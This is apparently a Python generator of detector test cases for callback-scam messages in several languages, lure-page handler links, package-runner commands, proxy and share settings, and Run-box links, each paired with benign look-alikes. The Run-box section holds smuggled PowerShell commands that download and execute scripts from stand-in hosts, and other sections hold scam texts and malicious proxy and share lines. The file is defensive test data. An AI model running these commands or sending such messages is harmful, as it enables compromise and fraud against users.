"""Writes tests/data/cases/gaps21.jsonl: the project's known gaps of the 2026-12-07 night, both
sides (issue 9 points 3 and 4): lures that were quiet or only warned, and benign texts that were
warned about, each beside the texts on the other side of the line.

    python tests/data/cases/make_gaps21.py

Deterministic (every case is a fixed text). Lure hosts are reserved names (.example, .test,
.invalid, documentation IP ranges) and every phone number is in a 555 block. No text is copied
from a lure collection, another detector's fixtures or the blind sets. Each line is {id, text,
expect, technique, platform[, source], target}.

Techniques:

- `account-frozen-cjk`: "your account / Apple ID has been frozen or locked, call …" in Chinese,
  Japanese, Korean, Russian and Arabic, beside a brand the scam borrows, was clean or only a
  warning where the English one is blocked: the Apple ID as the noun, a reason between the
  noun and the verb (アカウントは…のため凍結されました, 已被微软锁定), Russian "заморожен" and a
  brand after the noun, Arabic "تجميد", and the platforms these scams borrow (Alipay, WeChat,
  Taobao, Rakuten, Naver, Gosuslugi). Blocked. Look-alikes: a company's help-desk notice, an
  if-clause of advice, a warning about the scam, a bank's own notice that sends you to the app.
  Brandless, such a text stays a warning in every language, as in English.
- `callback-failed-renewal`: "your subscription could not be renewed / your payment failed /
  we refunded you too much, call … within 24 hours" with an amount and the number as the only
  way (en de fr es it zh ja): blocked. Look-alikes: genuine dunning and refund letters that send
  you to the account, the app or the site, or give days; an order notice with no deadline stays
  the warning it was.
- `handler-link-from-page`: an App Installer link (`ms-appinstaller:?source=`) or a Shortcuts
  import link handed by a page that does not own the file, pasted into the address bar (`other`):
  App Installer blocked from any such page, Shortcuts blocked from a page dressed up as a check
  and warned about from others. Look-alikes: Microsoft's own link from its docs, a project's
  README importing its own raw file, an iCloud shortcut link, typed links.
- `package-runner-from-lure-page`: `npx`, `npm exec -- github:…`, `pnpm dlx`, `bunx`,
  `deno run -A npm:…`, `uvx`, `pipx run`, `go run host/x@latest` handed to a terminal by a page
  dressed up as a check or a company, or by a page offering a fix with a package from elsewhere:
  blocked. Look-alikes: the same lines from the project's own docs or README, typed, and a
  local `go run .` from anywhere.
- `package-install-from-lure-page` (neighbour): a package manager installing a package
  (`pip install`, `npm i -g`, `npm create`, `cargo install`, `gem install`, `go install`, `nix
  run`, `dotnet tool install`) handed over by such a page: its install scripts run as it
  installs. Blocked; the same from the project's docs, a repair blog naming a registry package,
  a local requirements file or `npm install` of the project itself stay quiet.
- `own-proxy-from-wiki` (benign): `networksetup -setwebproxy … proxy.acme.example` and the GNOME
  equivalent from the company's own wiki (a page on the proxy's registrable domain): quiet. The
  lures beside it stay flagged: a stranger's proxy from that wiki, an address, a PAC script, the
  same proxy from a tenant site of a shared host, a check page's own proxy.
- `own-domain-share-from-wiki` (benign): a script or installer on the organisation's file server
  by its public name (`\\\\fs01.acme.example\\scripts\\setup.ps1`, a mapped drive and a program
  on it) copied from its own wiki into a terminal: quiet. Lures beside it: a stranger's share,
  WebDAV, an address, the share's text piped into a shell, a check page.
- `talk-link-run-box` (benign): a `mailto:`, `zoommtg:`, `slack:` or `msteams:` link whose query
  joins fields with `&`, typed into the Run box: the program that owns the scheme opens it, no
  shell reads the `&`: quiet. Lures beside it: the same link followed by a command, a pipe, or
  a link scheme that runs a file.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script (tests/data/cases/make_*.py)

book = Book("g21")
add = book.add

CHECK = "https://verify-human.example/captcha"
MAIL = "https://mail.example.org/inbox"

# ---- account-frozen-cjk -------------------------------------------------------------------------
FROZEN = [
    "您的Apple ID因安全原因已被锁定。请拨打苹果客服 400-555-0123。",
    "您的电脑已被微软锁定，请拨打 400-555-0123 联系技术支持。",
    "您的微信账号存在异常已被冻结，请立即拨打微信客服 400-555-0123 解冻。",
    "【淘宝】您的账户已被冻结，请立即致电 400-555-0123。",
    "您的支付宝账户已被冻结，请在24小时内拨打 400-555-0188 处理。",
    "お客様のApple IDはセキュリティ上の理由でロックされました。Appleサポート 0120-555-123 までお電話"
    "ください。",
    "お客様のAmazonアカウントは異常なアクティビティのため凍結されました。今すぐ 0120-555-123 に"
    "お電話ください。",
    "【楽天】お客様のアカウントは凍結されました。至急 0120-555-123 までお電話ください。",
    "보안상의 이유로 귀하의 Apple ID가 잠겼습니다. 애플 고객센터 080-555-0123 으로 전화하십시오.",
    "[네이버] 귀하의 계정이 정지되었습니다. 즉시 02-555-0123 으로 전화하십시오.",
    "Ваш Apple ID заблокирован по соображениям безопасности. Позвоните в поддержку Apple "
    "8 800 555-12-34.",
    "Ваш аккаунт Amazon заморожен из-за необычной активности. Позвоните сейчас 8 800 555-12-34.",
    "Госуслуги: ваш аккаунт заблокирован. Срочно позвоните 8 800 555-12-34.",
    "تم تجميد حسابك على أمازون بسبب نشاط غير عادي. اتصل الآن على 800-555-0123.",
    "تم قفل معرف Apple الخاص بك لأسباب أمنية. اتصل بدعم Apple على 800-555-0123.",
]
FROZEN_PAGES = [None, MAIL, None]
for i, text in enumerate(FROZEN):
    add("account-frozen-cjk", text, "malicious", source=FROZEN_PAGES[i % len(FROZEN_PAGES)])
# brandless: a warning, as in English (level with "Your account has been frozen. Call …")
for text in (
    "您的账户已被冻结，请立即拨打 400-555-0123。",
    "Ваша учетная запись заморожена. Позвоните 8 800 555-12-34.",
    "تم تجميد حسابك. اتصل فورًا على 800-555-0123.",
):
    add("account-frozen-cjk", text, "suspicious")
GENUINE_FROZEN = [
    # a company's help desk, the bank's own channel, advice, a warning about the scam
    "张先生您好：由于多次登录失败，您的账户已被锁定。如需解锁，请拨打IT服务台电话 010-5555-0123 "
    "转分机 4321，或在 https://helpdesk.quillmere.example 提交工单。",
    "如果您的Apple ID被锁定，请前往 iforgot.apple.com 解锁，或拨打 400-555-0100 咨询。",
    "谨防诈骗：声称“您的微信账号已被冻结，请拨打 400-555-0123”的短信是诈骗。",
    "Если ваш аккаунт Amazon заблокирован, позвоните в поддержку по номеру 8 800 555-12-34.",
    "Осторожно, мошенники: «Ваш Apple ID заблокирован, позвоните 8 800 555-12-34» — это обман.",
    "お客様の口座は一時的にご利用を制限しております。詳しくは銀行アプリをご確認ください。",
    "詐欺にご注意ください：「Amazonアカウントが凍結されました。0120-555-123 にお電話ください」という"
    "メッセージは偽物です。",
]
for text in GENUINE_FROZEN:
    add("account-frozen-cjk", text, "not_flagged")

# ---- callback-failed-renewal ------------------------------------------------------------------
FAILED = [
    "Your subscription could not be renewed. To avoid losing access, call 1-888-555-0123 within "
    "24 hours. Amount due: $399.99.",
    "Your payment of $299.99 for the annual plan failed. Call our billing department at "
    "1-888-555-0123 immediately to avoid suspension.",
    "We refunded you $950.00 instead of $95.00 by mistake. Please call 1-888-555-0123 today to "
    "return the difference.",
    "Ihr Abonnement konnte nicht verlängert werden. Rufen Sie innerhalb von 24 Stunden "
    "0800 555 1234 an. Offener Betrag: 399,99 €.",
    "Votre abonnement n'a pas pu être renouvelé. Appelez le 01 55 50 12 34 sous 24 heures. "
    "Montant dû : 399,99 €.",
    "Su suscripción no se pudo renovar. Llame al 900 555 123 en las próximas 24 horas. Importe "
    "pendiente: 399,99 €.",
    "Wir haben Ihnen versehentlich 950,00 € statt 95,00 € erstattet. Rufen Sie heute "
    "0800 555 1234 an, um die Differenz zurückzuzahlen.",
    "您的订阅续费失败，金额 ¥2,999。请在24小时内拨打 400-555-0123，否则账户将被停用。",
    "ご契約の自動更新に失敗しました（29,800円）。24時間以内に 0120-555-123 までお電話ください。",
]
for i, text in enumerate(FAILED):
    add("callback-failed-renewal", text, "malicious", source=(MAIL if i % 2 else None))
# an order notice with no deadline: the warning it was
add(
    "callback-failed-renewal",
    "Your order #88231 for $749.99 has been placed. If you did not make this purchase, call "
    "1-888-555-0123.",
    "suspicious",
)
GENUINE_FAILED = [
    "Your subscription could not be renewed because your card expired. Update your payment "
    "method in your account settings. Questions? Call 1-888-555-0123.",
    "We were unable to process your payment of $12.99. We'll try again in 3 days. You can update "
    "your card at netflix.com/account. Need help? Call 1-888-555-0123.",
    "We refunded you $40.00 more than your order total. No action is needed; the difference will "
    "be adjusted on your next bill. Questions? Call 1-888-555-0123.",
    "Ihre Lastschrift über 49,99 € wurde zurückgegeben. Bitte aktualisieren Sie Ihre "
    "Bankverbindung im Kundenkonto. Fragen? 0800 555 1234.",
    "Le prélèvement de 29,99 € a été refusé. Mettez à jour votre moyen de paiement dans votre "
    "espace client. Une question ? 01 55 50 12 34.",
    "Beware of scams: 'your payment of $299.99 failed, call 1-888-555-0123 within 24 hours' is a "
    "callback scam. Never call the number in such a message.",
]
for text in GENUINE_FAILED:
    add("callback-failed-renewal", text, "not_flagged")

# ---- handler-link-from-page -------------------------------------------------------------------
LINKS = [
    ("ms-appinstaller:?source=https://cdn-update.example/Teams.msix", CHECK, "malicious"),
    (
        "ms-appinstaller:?source=https://teams-download.example/Teams.appinstaller",
        "https://teams-download.example/join",
        "malicious",
    ),
    (
        "ms-appinstaller:?source=https://cdn.other.example/app/Viewer.appinstaller",
        "https://blog.example/tools",
        "malicious",
    ),
    (
        "ms-appinstaller:?source=https%3A%2F%2Fpkg.files-cdn.example%2FSetup.msixbundle",
        "https://docs-viewer.example/open",
        "malicious",
    ),
    (
        "shortcuts://import-shortcut?url=https://files.example/s.shortcut&name=Fix",
        CHECK,
        "malicious",
    ),
    (
        "shortcuts://import-shortcut?url=https://files.example/s.shortcut&name=Fix",
        "https://blog.example/my-shortcuts",
        "suspicious",
    ),
    (
        "shortcuts://x-callback-url/import-shortcut?url=https%3A%2F%2Fcdn.tools.example%2Fclean.shortcut",
        "https://apple-support-center.example/mac-cleanup",
        "malicious",
    ),
]
for text, page, level in LINKS:
    add("handler-link-from-page", text, level, "any", "other", page)
OWN_LINKS = [
    (
        "ms-appinstaller:?source=https://aka.ms/getwinget",
        "https://learn.microsoft.com/en-us/windows/msix/app-installer/installing-windows10-apps-web",
    ),
    (
        "shortcuts://import-shortcut?url=https://raw.githubusercontent.com/alice/shortcuts/main/"
        "a.shortcut&name=A",
        "https://github.com/alice/shortcuts",
    ),
    (
        "shortcuts://import-shortcut?url=https://www.icloud.com/shortcuts/0a1b2c3d4e5f&name=A",
        "https://blog.example/my-shortcuts",
    ),
    (
        "shortcuts://import-shortcut?url=https://shortcutsgallery.example/files/a.shortcut&name=A",
        "https://shortcutsgallery.example/shortcuts/a",
    ),
]
for text, page in OWN_LINKS:
    add("handler-link-from-page", text, "not_flagged", "any", "other", page)

# ---- package-runner-from-lure-page ------------------------------------------------------------
RUNNERS = [
    ("go run github.com/evil-dev/fixer@latest", CHECK),
    ("npm exec -- github:evil-dev/fixer", CHECK),
    ("deno run -A npm:fixer-tool", CHECK),
    ("bunx fixer-tool", CHECK),
    ("uvx fixer-tool", CHECK),
    ("pipx run fixer-tool", CHECK),
    ("npx -y @verify/human-check --token 7Q2X", CHECK),
    ("pnpm dlx browser-repair", "https://chrome-update-fix.example/"),
    ("go run update-host.example/audiofix@latest", "https://zoom-meeting-audio.example/fix"),
    ("npx teams-audio-fix", "https://teams-meeting-audio.example/join/123"),
    ("cd ~\nnpx -y fix-check", CHECK),
    ("yarn dlx camera-driver-fix", "https://interview-portal.example/room/88/video-check"),
]
for text, page in RUNNERS:
    add("package-runner-from-lure-page", text, "malicious", "any", "terminal", page)
OWN_RUNNERS = [
    ("go run github.com/charmbracelet/gum@latest", "https://github.com/charmbracelet/gum"),
    ("deno run -A npm:create-vite", "https://docs.deno.com/runtime/"),
    ("uvx ruff check", "https://docs.astral.sh/ruff/"),
    ("pnpm dlx create-vue", "https://pnpm.io/cli/dlx"),
    ("npm exec -- github:evil-dev/fixer", "https://github.com/evil-dev/fixer"),
    ("npx fixer", "https://evil-dev.github.io/fixer/"),
    ("pipx run cowsay -t hello", "https://pipx.pypa.io/stable/"),
    ("go run ./cmd/fix", CHECK),
    ("go run update-host.example/audiofix@latest", None),
]
for text, page in OWN_RUNNERS:
    add("package-runner-from-lure-page", text, "not_flagged", "any", "terminal", page)

# ---- package-install-from-lure-page (neighbour) ------------------------------------------------
INSTALLS = [
    ("pip install fixer-tool && fixer-tool", CHECK),
    ("python -m pip install --upgrade human-check", CHECK),
    ("npm i -g teams-audio-fix", "https://teams-meeting-audio.example/join/123"),
    ("npm create fixer@latest", CHECK),
    ("cargo install fixer-tool && fixer-tool", CHECK),
    ("gem install fixer && fixer", CHECK),
    ("nix run github:evil-dev/fixer", CHECK),
    ("go install update-host.example/fix@latest", "https://kb.example/troubleshoot/repair-audio"),
    ("dotnet tool install -g fixer", "https://chrome-update-fix.example/"),
]
for text, page in INSTALLS:
    add("package-install-from-lure-page", text, "malicious", "any", "terminal", page)
OWN_INSTALLS = [
    (
        "python -m pip install requests==2.32.3",
        "https://requests.readthedocs.io/en/latest/user/install/",
    ),
    ("npm install -g typescript@5.6", "https://www.typescriptlang.org/download/"),
    ("go install golang.org/x/tools/gopls@latest", "https://go.dev/gopls/"),
    ("cargo install ripgrep", "https://github.com/BurntSushi/ripgrep"),
    ("uvx virtualenv-clean", "https://blog.example/2024/05/repair-broken-venv/"),
    ("pip install -r requirements-dev.txt", CHECK),
    ("npm install", CHECK),
    ("pip install fixer-tool", None),
    # a registry's own page of a package whose name is a check word
    ("pip install captcha-solver-kit", "https://pypi.org/project/captcha-solver-kit/"),
    ("npm i verify-human-widget", "https://www.npmjs.com/package/verify-human-widget"),
]
for text, page in OWN_INSTALLS:
    add("package-install-from-lure-page", text, "not_flagged", "any", "terminal", page)

# ---- own-proxy-from-wiki (benign) ---------------------------------------------------------------
WIKI = "https://wiki.acme.example/it/proxy"
for text in (
    "networksetup -setwebproxy Wi-Fi proxy.acme.example 8080",
    "networksetup -setwebproxy Wi-Fi proxy.acme.example 8080 && networksetup "
    "-setsecurewebproxy Wi-Fi proxy.acme.example 8080",
    "sudo networksetup -setwebproxy Ethernet webproxy.eu.acme.example 3128",
    "gsettings set org.gnome.system.proxy mode 'manual'; gsettings set org.gnome.system.proxy.http "
    "host 'proxy.acme.example'; gsettings set org.gnome.system.proxy.http port 8080",
    'networksetup -setwebproxy "USB 10/100/1000 LAN" proxy.acme.example 8080',
):
    add("own-proxy-from-wiki", text, "not_flagged", "macos", "terminal", WIKI)
for text, page in (
    ("networksetup -setwebproxy Wi-Fi proxy.evil.example 8080", WIKI),
    ("networksetup -setwebproxy Wi-Fi 203.0.113.9 8080", WIKI),
    (
        "networksetup -setwebproxy Wi-Fi proxy.acme.example 8080; networksetup -setwebproxy "
        "Ethernet proxy.other.example 3128",
        WIKI,
    ),
    (
        "networksetup -setwebproxy Wi-Fi proxy.acme.example 8080",
        "https://acme.atlassian.net/wiki/x",
    ),
    (
        "networksetup -setwebproxy Wi-Fi proxy.acme-verify.example 8080",
        "https://acme-verify.example/captcha",
    ),
):
    add("own-proxy-from-wiki", text, "flagged", "macos", "terminal", page)

# ---- own-domain-share-from-wiki (benign) --------------------------------------------------------
DRIVES = "https://wiki.acme.example/it/drives"
for text in (
    "& \\\\fs01.acme.example\\scripts\\setup.ps1",
    "net use Z: \\\\fs01.acme.example\\it && Z:\\setup.cmd",
    "msiexec /i \\\\deploy.acme.example\\apps\\agent.msi /qn",
    "pushd \\\\fs01.acme.example\\it\\tools && install.cmd",
    "cmd /c \\\\fs01.acme.example\\netlogon\\logon.bat",
):
    add("own-domain-share-from-wiki", text, "not_flagged", "windows", "terminal", DRIVES)
for text, page in (
    ("& \\\\files.evil.example\\scripts\\setup.ps1", DRIVES),
    ("& \\\\fs01.acme.example@SSL\\DavWWWRoot\\scripts\\setup.ps1", DRIVES),
    ("& \\\\203.0.113.7\\scripts\\setup.ps1", DRIVES),
    ("type \\\\fs01.acme.example\\it\\steps.txt | cmd", DRIVES),
    (
        "net use Z: \\\\fs01.acme-verify.example\\it && Z:\\setup.cmd",
        "https://acme-verify.example/captcha",
    ),
):
    add("own-domain-share-from-wiki", text, "flagged", "windows", "terminal", page)

# ---- talk-link-run-box (benign) ----------------------------------------------------------------
for text in (
    "mailto:alice@example.com?subject=Hi&body=Hello%20there",
    "zoommtg://zoom.us/join?confno=123456789&pwd=abc",
    "slack://channel?team=T0123&id=C0456",
    "msteams:/l/meetup-join/19%3ameeting_abc%40thread.v2/0?context=%7b%22Tid%22%3a%22x%22%7d&anon=true",
    "mailto:helpdesk@acme.example?subject=Laptop%20issue&cc=it@acme.example",
):
    add("talk-link-run-box", text, "not_flagged", "windows", "run_dialog")
for text in (
    "mailto:a@b.example?x=1&powershell -w h iwr https://x.example/a.ps1|iex",
    "zoommtg://zoom.us/join?confno=1&pwd=x|cmd /c calc",
    "mailto:a@b.example&&powershell -nop -c iwr 203.0.113.4/a|iex",
    "search-ms:query=Invoice&crumb=location:\\\\203.0.113.5@80\\docs&displayname=Downloads",
):
    add("talk-link-run-box", text, "flagged", "windows", "run_dialog", CHECK)

CASES = book.cases

if __name__ == "__main__":
    write(Path(__file__).with_name("gaps21.jsonl"), CASES)
